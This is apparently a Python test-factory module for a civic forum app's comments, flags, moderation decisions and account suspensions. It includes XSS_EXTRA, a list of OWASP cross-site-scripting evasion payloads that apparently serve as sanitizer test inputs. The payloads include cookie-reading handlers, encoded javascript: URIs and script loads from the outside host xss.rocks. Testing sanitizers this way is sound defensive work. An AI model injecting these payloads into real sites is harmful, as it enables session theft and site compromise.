"""Factories for comments, flags, moderation decisions and suspensions: through the real services.

    c = fm.comment(app, author, thread)                # on a thread (or a case: target_type="case")
    reply = fm.comment(app, other, thread, parent=c)
    fm.flag(app, citizen, "comment", c.id)
    fm.moderate(app, moderator, "comment", c.id, "hide", "广告")
"""

from __future__ import annotations

from datetime import timedelta
from typing import Any

from app.extensions import db
from tests import factories
from tests import factories_proposals as fp

XSS_EXTRA = [
    # more of the OWASP XSS filter-evasion cheat sheet
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<a href=\"jav&#x09;ascript:alert(1)\">tab</a>",
    "[link](javas&#99;ript:alert(1))",
    "[link](<javascript:alert(1)>)",
    "<details open ontoggle=alert(1)>",
    "`<script>alert(1)</script>`",
    "\"><svg><script>alert(1)</script>",
]


def _user(user_obj: Any):
    from app.accounts.models import User

    return db.session.get(User, user_obj.id)


def _target(target_type: str, target_obj: Any):
    from app.comments.registry import commentable

    return commentable(target_type).load(target_obj.id)


def comment(app, author, target, body: str | None = None, *, parent=None, target_type: str = "proposal"):
    """A comment (or reply) by ``author`` through the real service; published unless the policy holds it."""
    from app.comments.services import post_comment

    n = factories._next()
    text = body if body is not None else f"同意楼主的意见，建议尽快落实。第{n}条评论。"

    def make():
        return post_comment(_user(author), target_type, _target(target_type, target), text, parent.id if parent else None)

    return factories._committed(app, make)


def reload(app, comment_obj):
    """The comment as stored now (detached)."""
    from app.comments.models import Comment

    with app.app_context():
        obj = db.session.get(Comment, comment_obj.id)
        db.session.expunge(obj)
        return obj


def flag(app, user, target_type: str, target_id: int, reason: str = "spam", note: str | None = None):
    """``user`` flags an item."""
    from app.moderation.flags import flag as make_flag

    return factories._committed(app, lambda: make_flag(_user(user), target_type, target_id, reason, note))


def moderate(app, moderator, target_type: str, target_id: int, action: str, reason: str | None = None):
    """A moderator's decision on an item."""
    from app.moderation.actions import moderate as act

    with app.app_context():
        act(_user(moderator), target_type, target_id, action, reason)
        db.session.commit()


def suspend(app, moderator, user, days: int = 7, reason: str = "多次发布广告"):
    """Suspend an account for some days."""
    from app.moderation.accounts import suspend as do_suspend

    with app.app_context():
        do_suspend(_user(moderator), _user(user), days, reason)
        db.session.commit()


def bulk_comments(app, target, count: int, authors: list, *, target_type: str = "proposal", nested: bool = True,
                  edited: int = 0) -> None:
    """``count`` published comments on a target in one go (for query-count tests): a third are replies,
    some of them replies to replies; the first ``edited`` have two revisions."""
    from app.clock import utcnow
    from app.comments.models import Comment, CommentRevision, path_segment
    from app.comments.registry import commentable

    with app.app_context():
        now = utcnow() - timedelta(hours=2)
        made: list[Comment] = []
        for index in range(count):
            parent = None
            if nested and made and index % 3 == 1:
                parent = made[-1]
            elif nested and made and index % 3 == 2 and made[-1].depth < 3:
                parent = made[-1]
            body = f"评论内容第{index}条，手机13812345678"
            row = Comment(
                target_type=target_type, target_id=target.id, parent_id=parent.id if parent else None,
                depth=parent.depth + 1 if parent else 1, author_id=authors[index % len(authors)].id, body=body,
                body_html=f"<p>评论内容第{index}条，手机138****5678</p>", status="published",
                review_flags=[], revisions_count=2 if index < edited else 1,
                created_at=now + timedelta(seconds=index), updated_at=now, published_at=now,
            )
            db.session.add(row)
            db.session.flush()
            row.path = (parent.path + "/" if parent else "") + path_segment(row.id)
            db.session.add(CommentRevision(comment_id=row.id, number=1, body=body, body_html=row.body_html, created_at=now))
            if index < edited:
                db.session.add(CommentRevision(comment_id=row.id, number=2, body=body + "（改）", body_html=row.body_html, created_at=now))
            made.append(row)
        model = commentable(target_type).model
        db.session.get(model, target.id).comments_count += count
        db.session.commit()


class Scene:
    """A thread with a trusted author, a few trusted citizens, a moderator and an officer."""

    def __init__(self, app):
        self.app = app
        self.cast = fp.Cast(app)
        self.thread = self.cast.thread("open")
        self.moderator = self.cast.moderator
        self.author = self.cast.author
        self.citizens = [fp.citizen(app) for _ in range(4)]
        self.officer = self.cast.officer
